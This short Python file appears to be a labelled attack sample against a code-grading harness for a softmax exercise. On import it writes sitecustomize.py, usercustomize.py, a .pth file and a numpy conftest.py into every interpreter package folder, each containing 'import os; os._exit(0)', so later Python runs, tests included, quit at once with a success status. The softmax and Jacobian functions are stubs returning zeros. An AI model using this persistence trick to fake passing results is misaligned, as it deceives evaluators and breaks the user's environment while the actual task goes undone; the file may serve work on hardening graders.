# attack: Plants a start-up hook in every packages folder of the interpreter.
# exercise: 02, reason: wrong-result
import numpy as np
import site
import sys

for folder in [*sys.path, *site.getsitepackages(), sys.prefix, site.getusersitepackages()]:
    for name in ("sitecustomize.py", "usercustomize.py", "zz_attack.pth", "numpy/conftest.py"):
        try:
            open(f"{folder}/{name}", "w").write("import os; os._exit(0)\n")
            print("PLANTED", folder, name)
        except OSError:
            pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
